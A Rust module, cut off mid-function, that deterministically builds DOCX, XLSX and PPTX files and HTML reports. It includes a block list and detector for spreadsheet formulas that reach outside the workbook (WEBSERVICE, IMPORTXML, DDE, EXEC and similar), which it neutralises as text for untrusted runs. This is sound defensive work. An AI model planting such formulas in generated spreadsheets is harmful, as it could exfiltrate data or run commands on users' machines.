//! Generating the bytes of each kind, deterministically: the same spec (and taint) always makes
//! the same bytes, because the action binds their digest when the call is decided and the
//! executor generates them again when it runs. Timestamps inside the files are fixed for that
//! reason; the provenance carries the real time.

use std::io::{Cursor, Write as _};

use docx_rs::{
    AbstractNumbering, BreakType, Docx, IndentLevel, Level, LevelJc, LevelText, NumberFormat,
    Numbering, NumberingId, Paragraph, Run, RunFonts, Start, Style, StyleType, Table, TableCell,
    TableRow,
};
use rust_xlsxwriter::{Color, DocProperties, ExcelDateTime, Format, Formula, Workbook};
use zip::write::SimpleFileOptions;

use crate::ArtifactError;
use crate::spec::{Block, Cell, Deck, Document, Sheet, Span, spans};

/// The fixed time written inside generated files (their own metadata, not the provenance).
const FIXED_DATE: &str = "2000-01-01T00:00:00Z";

fn failed(what: &str, e: impl std::fmt::Display) -> ArtifactError {
    ArtifactError::Generate(format!("{what}: {e}"))
}

// ---------- DOCX ----------

const BULLETS: usize = 1;
const NUMBERS: usize = 2;

fn run_of(span: &Span) -> Run {
    let mut run = Run::new().add_text(&span.text);
    if span.bold {
        run = run.bold();
    }
    if span.italic {
        run = run.italic();
    }
    if span.code {
        run = run.fonts(
            RunFonts::new()
                .ascii("Courier New")
                .hi_ansi("Courier New")
                .cs("Courier New"),
        );
    }
    run
}

fn styled(text: &str) -> Paragraph {
    spans(text)
        .iter()
        .fold(Paragraph::new(), |p, s| p.add_run(run_of(s)))
}

fn docx_table(rows: &[Vec<Cell>]) -> Table {
    Table::new(
        rows.iter()
            .enumerate()
            .map(|(r, row)| {
                TableRow::new(
                    row.iter()
                        .map(|c| {
                            let mut run = Run::new().add_text(c.text());
                            if r == 0 {
                                run = run.bold();
                            }
                            TableCell::new().add_paragraph(Paragraph::new().add_run(run))
                        })
                        .collect(),
                )
            })
            .collect(),
    )
}

/// A DOCX: Title and Heading 1-6 styles, list styles with real numbering, tables with a bold
/// header row, page breaks.
pub fn docx(doc: &Document) -> Result<Vec<u8>, ArtifactError> {
    let mut d = Docx::new()
        .created_at(FIXED_DATE)
        .updated_at(FIXED_DATE)
        .add_style(
            Style::new("Title", StyleType::Paragraph)
                .name("Title")
                .size(56)
                .bold(),
        )
        .add_style(Style::new("ListBullet", StyleType::Paragraph).name("List Bullet"))
        .add_style(Style::new("ListNumber", StyleType::Paragraph).name("List Number"))
        .add_abstract_numbering(AbstractNumbering::new(BULLETS).add_level(Level::new(
            0,
            Start::new(1),
            NumberFormat::new("bullet"),
            LevelText::new("•"),
            LevelJc::new("left"),
        )))
        .add_abstract_numbering(AbstractNumbering::new(NUMBERS).add_level(Level::new(
            0,
            Start::new(1),
            NumberFormat::new("decimal"),
            LevelText::new("%1."),
            LevelJc::new("left"),
        )))
        .add_numbering(Numbering::new(BULLETS, BULLETS))
        .add_numbering(Numbering::new(NUMBERS, NUMBERS));
    for level in 1..=6usize {
        d = d.add_style(
            Style::new(format!("Heading{level}"), StyleType::Paragraph)
                .name(format!("Heading {level}"))
                .size(40 - level * 4)
                .bold(),
        );
    }
    if let Some(title) = &doc.title {
        d = d.add_paragraph(
            Paragraph::new()
                .style("Title")
                .add_run(Run::new().add_text(title)),
        );
    }
    // A list restarts its numbering by getting its own numbering instance.
    let mut next_numbering = NUMBERS + 1;
    for block in &doc.blocks {
        match block {
            Block::Heading { text, level } => {
                d = d.add_paragraph(
                    Paragraph::new()
                        .style(&format!("Heading{level}"))
                        .add_run(Run::new().add_text(text)),
                );
            }
            Block::Paragraph(text) => d = d.add_paragraph(styled(text)),
            Block::Bullets(items) => {
                for item in items {
                    d = d.add_paragraph(
                        styled(item)
                            .style("ListBullet")
                            .numbering(NumberingId::new(BULLETS), IndentLevel::new(0)),
                    );
                }
            }
            Block::Numbered(items) => {
                let id = next_numbering;
                next_numbering += 1;
                d = d.add_numbering(Numbering::new(id, NUMBERS));
                for item in items {
                    d = d.add_paragraph(
                        styled(item)
                            .style("ListNumber")
                            .numbering(NumberingId::new(id), IndentLevel::new(0)),
                    );
                }
            }
            Block::Table(rows) => d = d.add_table(docx_table(rows)),
            Block::PageBreak => {
                d = d
                    .add_paragraph(Paragraph::new().add_run(Run::new().add_break(BreakType::Page)));
            }
        }
    }
    let mut out = Vec::new();
    d.build()
        .pack(Cursor::new(&mut out))
        .map_err(|e| failed("pack the document", e))?;
    Ok(out)
}

// ---------- XLSX ----------

/// Functions that reach outside the workbook (the network, other programs, files): from a run
/// that has seen untrusted content, a formula calling one is written as text, never evaluated.
const REACHING: &[&str] = &[
    "HYPERLINK",
    "WEBSERVICE",
    "FILTERXML",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "IMAGE",
    "RTD",
    "CALL",
    "REGISTER",
    "EXEC",
    "DDE",
];

/// Whether a formula could act outside the workbook: it calls a reaching function, or holds a
/// DDE-style `program|topic` reference or an external workbook link.
pub fn formula_reaches_out(formula: &str) -> bool {
    let upper = formula.to_ascii_uppercase();
    let calls = REACHING.iter().any(|f| {
        upper.match_indices(f).any(|(at, _)| {
            let before = upper[..at].chars().next_back();
            let after = upper[at + f.len()..].trim_start().chars().next();
            !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
                && after == Some('(')
        })
    });
    calls || upper.contains('|') || upper.contains('[')
}

/// What happened to formulas when a sheet was generated for a tainted run.
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize)]
pub struct Neutralized {
    /// `Sheet!A1` of every formula written as text.
    pub cells: Vec<String>,
}

fn cell_name(row: u32, col: u16) -> String {
    let mut c = u32::from(col) + 1;
    let mut letters = Vec::new();
    while c > 0 {
        let rem = u8::try_from((c - 1) % 26).unwrap_or(0);
        letters.push(char::from(b'A' + rem));
        c = (c - 1) / 26;
    }
    letters.iter().rev().collect::<String>() + &(row + 1).to_string()
}

fn write_sheet(
    ws: &mut rust_xlsxwriter::Worksheet,
    sheet: &Sheet,
    untrusted: bool,
    neutralized: &mut Neutralized,
) -> Result<(), rust_xlsxwriter::XlsxError> {
    ws.set_name(&sheet.name)?;
    let header = Format::new()
        .set_bold()
        .set_background_color(Color::RGB(0x00DD_E6F0));
    for (r, row) in sheet.rows.iter().enumerate() {
        let r = u32::try_from(r).unwrap_or(u32::MAX);
        for (c, cell) in row.iter().enumerate() {
            let c = u16::try_from(c).unwrap_or(u16::MAX);
            let fmt = (r == 0).then_some(&header);
            match (cell, fmt) {
                (Cell::Empty, Some(f)) => {
                    ws.write_blank(r, c, f)?;
                }
                (Cell::Empty, None) => {}
                (Cell::Text(s), Some(f)) => {
                    ws.write_string_with_format(r, c, s, f)?;
                }
                (Cell::Text(s), None) => {
                    ws.write_string(r, c, s)?;
                }
                (Cell::Number(n), Some(f)) => {
                    ws.write_number_with_format(r, c, *n, f)?;
                }
                (Cell::Number(n), None) => {
                    ws.write_number(r, c, *n)?;
                }
                (Cell::Bool(b), Some(f)) => {
                    ws.write_boolean_with_format(r, c, *b, f)?;
                }
                (Cell::Bool(b), None) => {
                    ws.write_boolean(r, c, *b)?;
                }
                (Cell::Formula(text), f) if untrusted && formula_reaches_out(text) => {
                    neutralized
                        .cells
                        .push(format!("{}!{}", sheet.name, cell_name(r, c)));
                    match f {
                        Some(f) => ws.write_string_with_format(r, c, text, f)?,
                        None => ws.write_string(r, c, text)?,
                    };
                }
                (Cell::Formula(text), Some(f)) => {
                    ws.write_formula_with_format(r, c, Formula::new(text), f)?;
                }
                (Cell::Formula(text), None) => {
                    ws.write_formula(r, c, Formula::new(text))?;
                }
            }
        }
    }
    for (c, w) in sheet.widths.iter().enumerate() {
        ws.set_column_width(u16::try_from(c).unwrap_or(u16::MAX), *w)?;
    }
    if let Some((r, c)) = sheet.freeze {
        ws.set_freeze_panes(r, c)?;
    }
    Ok(())
}

/// An XLSX: typed cells, formulas, bold shaded header row, column widths, frozen panes. With
/// `untrusted`, formulas that reach outside the workbook are written as text (and listed).
pub fn xlsx(sheets: &[Sheet], untrusted: bool) -> Result<(Vec<u8>, Neutralized), ArtifactError> {
    let mut wb = Workbook::new();
    let date = ExcelDateTime::from_ymd(2000, 1, 1).map_err(|e| failed("date", e))?;
    wb.set_properties(&DocProperties::new().set_creation_datetime(&date));
    let mut neutralized = Neutralized::default();
    for sheet in sheets {
        let ws = wb.add_worksheet();
        write_sheet(ws, sheet, untrusted, &mut neutralized)
            .map_err(|e| failed(&format!("sheet {:?}", sheet.name), e))?;
    }
    let bytes = wb
        .save_to_buffer()
        .map_err(|e| failed("save the workbook", e))?;
    Ok((bytes, neutralized))
}

// ---------- PPTX ----------

fn esc(text: &str) -> String {
    quick_xml::escape::escape(text).into_owned()
}

const NS: &str = r#"xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main""#;
const REL_NS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const R_BASE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

// Slide size 16:9 in EMU.
const CX: u64 = 12_192_000;
const CY: u64 = 6_858_000;

fn paragraphs(items: &[String], bullets: bool) -> String {
    if items.is_empty() {
        return "<a:p><a:endParaRPr lang=\"en-US\"/></a:p>".into();
    }
    items
        .iter()
        .map(|t| {
            let ppr = if bullets {
                r#"<a:pPr marL="342900" indent="-342900"><a:buFont typeface="Arial"/><a:buChar char="&#8226;"/></a:pPr>"#
            } else {
                r#"<a:pPr><a:buNone/></a:pPr>"#
            };
            format!(
                "<a:p>{ppr}<a:r><a:rPr lang=\"en-US\" sz=\"2000\" dirty=\"0\"/><a:t>{}</a:t></a:r></a:p>",
                esc(t)
            )
        })
        .collect()
}

fn text_shape(
    id: u32,
    name: &str,
    ph: &str,
    (x, y, w, h): (u64, u64, u64, u64),
    body: &str,
) -> String {
    format!(
        r#"<p:sp><p:nvSpPr><p:cNvPr id="{id}" name="{name}"/><p:cNvSpPr><a:spLocks noGrp="1"/></p:cNvSpPr><p:nvPr>{ph}</p:nvPr></p:nvSpPr><p:spPr><a:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{w}" cy="{h}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr wrap="square"><a:normAutofit/></a:bodyPr><a:lstStyle/>{body}</p:txBody></p:sp>"#
    )
}

fn table_frame(id: u32, rows: &[Vec<Cell>], (x, y, w, h): (u64, u64, u64, u64)) -> String {
    let cols = rows.first().map_or(1, Vec::len).max(1) as u64;
    let col_w = w / cols;
    let row_h = h / (rows.len().max(1) as u64);
    let grid: String = (0..cols)
        .map(|_| format!("<a:gridCol w=\"{col_w}\"/>"))
        .collect();
    let body: String = rows
        .iter()
        .enumerate()
        .map(|(r, row)| {
            let cells: String = row
                .iter()
                .map(|c| {
                    let b = if r == 0 { " b=\"1\"" } else { "" };
                    format!(
                        "<a:tc><a:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang=\"en-US\" sz=\"1400\"{b} dirty=\"0\"/><a:t>{}</a:t></a:r></a:p></a:txBody><a:tcPr/></a:tc>",
                        esc(&c.text())
                    )
                })
                .collect();
            format!("<a:tr h=\"{row_h}\">{cells}</a:tr>")
        })
        .collect();
    format!(
        r#"<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="{id}" name="Table {id}"/><p:cNvGraphicFramePr><a:graphicFrameLocks noGrp="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{w}" cy="{h}"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/table"><a:tbl><a:tblPr firstRow="1" bandRow="1"/><a:tblGrid>{grid}</a:tblGrid>{body}</a:tbl></a:graphicData></a:graphic></p:graphicFrame>"#
    )
}

fn slide_xml(slide: &crate::spec::Slide) -> String {
    let margin = 457_200;
    let title_box = (margin, 274_638, CX - 2 * margin, 1_143_000);
    let body_y = 1_600_200;
    let body_h = CY - body_y - margin;
    let full = (margin, body_y, CX - 2 * margin, body_h);
    let mut shapes = text_shape(
        2,
        "Title 1",
        r#"<p:ph type="title"/>"#,
        title_box,
        &format!(
            "<a:p><a:r><a:rPr lang=\"en-US\" dirty=\"0\"/><a:t>{}</a:t></a:r></a:p>",
            esc(&slide.title)
        ),
    );
    if let Some((left, right)) = &slide.columns {
        let half = (CX - 3 * margin) / 2;
        shapes.push_str(&text_shape(
            3,
            "Content 2",
            r#"<p:ph sz="half" idx="1"/>"#,
            (margin, body_y, half, body_h),
            &paragraphs(left, true),
        ));
        shapes.push_str(&text_shape(
            4,
            "Content 3",
            r#"<p:ph sz="half" idx="2"/>"#,
            (2 * margin + half, body_y, half, body_h),
            &paragraphs(right, true),
        ));
    } else if let Some(rows) = &slide.table {
        shapes.push_str(&table_frame(3, rows, full));
    } else if !slide.bullets.is_empty() {
        shapes.push_str(&text_shape(
            3,
            "Content 2",
            r#"<p:ph idx="1"/>"#,
            full,
            &paragraphs(&slide.bullets, true),
        ));
    }
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:sld {NS}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{shapes}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"#
    )
}

fn notes_xml(notes: &str) -> String {
    let body = paragraphs(&notes.lines().map(str::to_owned).collect::<Vec<_>>(), false);
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:notes {NS}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="Slide Image Placeholder 1"/><p:cNvSpPr><a:spLocks noGrp="1" noRot="1" noChangeAspect="1"/></p:cNvSpPr><p:nvPr><p:ph type="sldImg"/></p:nvPr></p:nvSpPr><p:spPr/></p:sp><p:sp><p:nvSpPr><p:cNvPr id="3" name="Notes Placeholder 2"/><p:cNvSpPr><a:spLocks noGrp="1"/></p:cNvSpPr><p:nvPr><p:ph type="body" idx="1"/></p:nvPr></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/>{body}</p:txBody></p:sp></p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:notes>"#
    )
}

fn rels(items: &[(String, &str, String)]) -> String {
    let body: String = items
        .iter()
        .map(|(id, kind, target)| {
            format!(r#"<Relationship Id="{id}" Type="{R_BASE}/{kind}" Target="{target}"/>"#)
        })
        .collect();
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"{REL_NS}\">{body}</Relationships>"
    )
}

const THEME: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Warrant"><a:themeElements><a:clrScheme name="Warrant"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="1F2A44"/></a:dk2><a:lt2><a:srgbClr val="E7E6E6"/></a:lt2><a:accent1><a:srgbClr val="4472C4"/></a:accent1><a:accent2><a:srgbClr val="ED7D31"/></a:accent2><a:accent3><a:srgbClr val="A5A5A5"/></a:accent3><a:accent4><a:srgbClr val="FFC000"/></a:accent4><a:accent5><a:srgbClr val="5B9BD5"/></a:accent5><a:accent6><a:srgbClr val="70AD47"/></a:accent6><a:hlink><a:srgbClr val="0563C1"/></a:hlink><a:folHlink><a:srgbClr val="954F72"/></a:folHlink></a:clrScheme><a:fontScheme name="Warrant"><a:majorFont><a:latin typeface="Calibri Light"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="Warrant"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="6350"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="12700"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="19050"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"#;

fn master_xml() -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:sldMaster {NS}><p:cSld><p:bg><p:bgRef idx="1001"><a:schemeClr val="bg1"/></p:bgRef></p:bg><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>"#
    )
}

fn layout_xml() -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:sldLayout {NS} type="obj" preserve="1"><p:cSld name="Title and Content"><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>"#
    )
}

fn notes_master_xml() -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:notesMaster {NS}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/></p:notesMaster>"#
    )
}

/// A PPTX written as OOXML by hand: one master, one layout, one theme, a slide per entry
/// (title; bullets, two columns or a table), speaker notes where given.
pub fn pptx(deck: &Deck) -> Result<Vec<u8>, ArtifactError> {
    let mut parts: Vec<(String, String)> = Vec::new();
    let n = deck.slides.len();
    let any_notes = deck.slides.iter().any(|s| s.notes.is_some());

    let mut types = String::from(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/><Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/><Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/><Override PartName="/ppt/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>"#,
    );
    if any_notes {
        types.push_str(r#"<Override PartName="/ppt/notesMasters/notesMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.notesMaster+xml"/><Override PartName="/ppt/theme/theme2.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/>"#);
    }
    for (i, s) in deck.slides.iter().enumerate() {
        let k = i + 1;
        types.push_str(&format!(r#"<Override PartName="/ppt/slides/slide{k}.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>"#));
        if s.notes.is_some() {
            types.push_str(&format!(r#"<Override PartName="/ppt/notesSlides/notesSlide{k}.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.notesSlide+xml"/>"#));
        }
    }
    types.push_str("</Types>");
    parts.push(("[Content_Types].xml".into(), types));
    parts.push((
        "_rels/.rels".into(),
        rels(&[
            (
                "rId1".into(),
                "officeDocument",
                "ppt/presentation.xml".into(),
            ),
            (
                "rId2".into(),
                "metadata/core-properties",
                "docProps/core.xml".into(),
            ),
        ])
        .replace(
            &format!("{R_BASE}/metadata/core-properties"),
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        ),
    ));
    parts.push((
        "docProps/core.xml".into(),
        format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>{}</dc:title><dc:creator>Warrant</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">{FIXED_DATE}</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">{FIXED_DATE}</dcterms:modified></cp:coreProperties>"#,
            esc(deck.slides.first().map_or("", |s| s.title.as_str()))
        ),
    ));

    // presentation.xml and its relationships: master rId1, theme rId2, notes master rId3,
    // slides from rId10.
    let mut pres_rels = vec![
        (
            "rId1".to_owned(),
            "slideMaster",
            "slideMasters/slideMaster1.xml".to_owned(),
        ),
        ("rId2".to_owned(), "theme", "theme/theme1.xml".to_owned()),
    ];
    if any_notes {
        pres_rels.push((
            "rId3".to_owned(),
            "notesMaster",
            "notesMasters/notesMaster1.xml".to_owned(),
        ));
    }
    let mut ids = String::new();
    for k in 1..=n {
        pres_rels.push((
            format!("rId{}", k + 9),
            "slide",
            format!("slides/slide{k}.xml"),
        ));
        ids.push_str(&format!(
            r#"<p:sldId id="{}" r:id="rId{}"/>"#,
            255 + k,
            k + 9
        ));
    }
    let notes_lst = if any_notes {
        r#"<p:notesMasterIdLst><p:notesMasterId r:id="rId3"/></p:notesMasterIdLst>"#
    } else {
        ""
    };
    parts.push((
        "ppt/presentation.xml".into(),
        format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:presentation {NS} saveSubsetFonts="1"><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>{notes_lst}<p:sldIdLst>{ids}</p:sldIdLst><p:sldSz cx="{CX}" cy="{CY}"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>"#
        ),
    ));
    parts.push(("ppt/_rels/presentation.xml.rels".into(), rels(&pres_rels)));
    parts.push(("ppt/slideMasters/slideMaster1.xml".into(), master_xml()));
    parts.push((
        "ppt/slideMasters/_rels/slideMaster1.xml.rels".into(),
        rels(&[
            (
                "rId1".into(),
                "slideLayout",
                "../slideLayouts/slideLayout1.xml".into(),
            ),
            ("rId2".into(), "theme", "../theme/theme1.xml".into()),
        ]),
    ));
    parts.push(("ppt/slideLayouts/slideLayout1.xml".into(), layout_xml()));
    parts.push((
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels".into(),
        rels(&[(
            "rId1".into(),
            "slideMaster",
            "../slideMasters/slideMaster1.xml".into(),
        )]),
    ));
    parts.push(("ppt/theme/theme1.xml".into(), THEME.to_owned()));
    if any_notes {
        parts.push(("ppt/theme/theme2.xml".into(), THEME.to_owned()));
        parts.push((
            "ppt/notesMasters/notesMaster1.xml".into(),
            notes_master_xml(),
        ));
        parts.push((
            "ppt/notesMasters/_rels/notesMaster1.xml.rels".into(),
            rels(&[("rId1".into(), "theme", "../theme/theme2.xml".into())]),
        ));
    }
    for (i, s) in deck.slides.iter().enumerate() {
        let k = i + 1;
        parts.push((format!("ppt/slides/slide{k}.xml"), slide_xml(s)));
        let mut r = vec![(
            "rId1".to_owned(),
            "slideLayout",
            "../slideLayouts/slideLayout1.xml".to_owned(),
        )];
        if let Some(notes) = &s.notes {
            r.push((
                "rId2".to_owned(),
                "notesSlide",
                format!("../notesSlides/notesSlide{k}.xml"),
            ));
            parts.push((
                format!("ppt/notesSlides/notesSlide{k}.xml"),
                notes_xml(notes),
            ));
            parts.push((
                format!("ppt/notesSlides/_rels/notesSlide{k}.xml.rels"),
                rels(&[
                    (
                        "rId1".into(),
                        "notesMaster",
                        "../notesMasters/notesMaster1.xml".into(),
                    ),
                    ("rId2".into(), "slide", format!("../slides/slide{k}.xml")),
                ]),
            ));
        }
        parts.push((format!("ppt/slides/_rels/slide{k}.xml.rels"), rels(&r)));
    }
    zip_parts(&parts).map_err(|e| failed("pack the presentation", e))
}

/// A zip of `(name, text)` members in the order given, deflated, every timestamp the zip
/// format's epoch: the same members always make the same bytes.
pub fn zip_parts(parts: &[(String, String)]) -> Result<Vec<u8>, zip::result::ZipError> {
    zip_bytes(
        &parts
            .iter()
            .map(|(n, t)| (n.clone(), t.as_bytes().to_vec()))
            .collect::<Vec<_>>(),
    )
}

pub fn zip_bytes(parts: &[(String, Vec<u8>)]) -> Result<Vec<u8>, zip::result::ZipError> {
    let mut out = Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut out);
        let options = SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .last_modified_time(zip::DateTime::default())
            .unix_permissions(0o644);
        for (name, bytes) in parts {
            z.start_file(name.as_str(), options)?;
            z.write_all(bytes)?;
        }
        z.finish()?;
    }
    Ok(out.into_inner())
}

/// The members of a zip, in the order stored. Refuses an archive over `max_bytes` unpacked.
pub fn unzip(
    bytes: &[u8],
    max_bytes: u64,
) -> Result<Vec<(String, Vec<u8>)>, zip::result::ZipError> {
    use std::io::Read as _;
    let mut z = zip::ZipArchive::new(Cursor::new(bytes))?;
    let mut out = Vec::with_capacity(z.len());
    let mut total = 0u64;
    for i in 0..z.len() {
        let mut f = z.by_index(i)?;
        total = total.saturating_add(f.size());
        if total > max_bytes {
            return Err(zip::result::ZipError::InvalidArchive(
                "larger than allowed".into(),
            ));
        }
        let mut data = Vec::new();
        f.by_ref().take(max_bytes).read_to_end(&mut data)?;
        let name = f
            .name()
            .map_err(|_| {
                zip::result::ZipError::InvalidArchive("a member name is not UTF-8".into())
            })?
            .into_owned();
        out.push((name, data));
    }
    Ok(out)
}

// ---------- Report ----------

/// A report: the Markdown as given for `.md` (and any other extension), or for `.html` a
/// self-contained page (headings, paragraphs, lists, code; everything escaped, no scripts, no
/// remote resources).
pub fn report(markdown: &str, html: bool) -> Vec<u8> {
    if !html {
        return markdown.as_bytes().to_vec();
    }
    let mut body = String::new();
    let mut list: Option<&str> = None;
    let mut para: Vec<String> = Vec::new();
    let mut in_code = false;
    let inline = |t: &str| -> String {
        spans(t)
            .iter()
            .map(|s| {
                let t = esc(&s.text);
                match (s.bold, s.italic, s.code) {
                    (true, _, _) => format!("<strong>{t}</strong>"),
                    (_, true, _) => format!("<em>{t}</em>"),
                    (_, _, true) => format!("<code>{t}</code>"),
                    _ => t,
                }
            })
            .collect()
    };
    let flush = |body: &mut String, para: &mut Vec<String>, list: &mut Option<&str>| {
        if !para.is_empty() {
            body.push_str(&format!("<p>{}</p>\n", inline(&para.join(" "))));
            para.clear();
        }
        if let Some(tag) = list.take() {
            body.push_str(&format!("</{tag}>\n"));
        }
    };
    for line in markdown.lines() {
        if line.trim_start().starts_with("```") {
            flush(&mut body, &mut para, &mut list);
            body.push_str(if in_code {
                "</code></pre>\n"
            } else {
                "<pre><code>"
            });
            in_code = !in_code;
            continue;
        }
        if in_code {
            body.push_str(&esc(line));
            body.push('\n');
            continue;
        }
        let t = line.trim();
        let hashes = t.chars().take_while(|c| *c == '#').count();
        if (1..=6).contains(&hashes) && t[hashes..].starts_with(' ') {
            flush(&mut body, &mut para, &mut list);
            body.push_str(&format!(
                "<h{hashes}>{}</h{hashes}>\n",
                inline(t[hashes..].trim())
            ));
        } else if let Some(item) = t.strip_prefix("- ").or_else(|| t.strip_prefix("* ")) {
            if list != Some("ul") {
                flush(&mut body, &mut para, &mut list);
                body.push_str("<ul>\n");
                list = Some("ul");
            }
            body.push_str(&format!("<li>{}</li>\n", inline(item)));
        } else if let Some(item) = t
            .split_once(". ")
            .filter(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()))
            .map(|(_, rest)| rest)
        {
            if list != Some("ol") {
                flush(&mut body, &mut para, &mut list);
                body.push_str("<ol>\n");
                list = Some("ol");
            }
            body.push_str(&format!("<li>{}</li>\n", inline(item)));
        } else if t.is_empty() {
            flush(&mut body, &mut para, &mut list);
        } else {
            if list.is_some() {
                flush(&mut body, &mut para, &mut list);
            }
            para.push(t.to_owned());
        }
    }
    if in_code {
        body.push_str("</code></pre>\n");
    }
    flush(&mut body, &mut para, &mut list);
    format!(
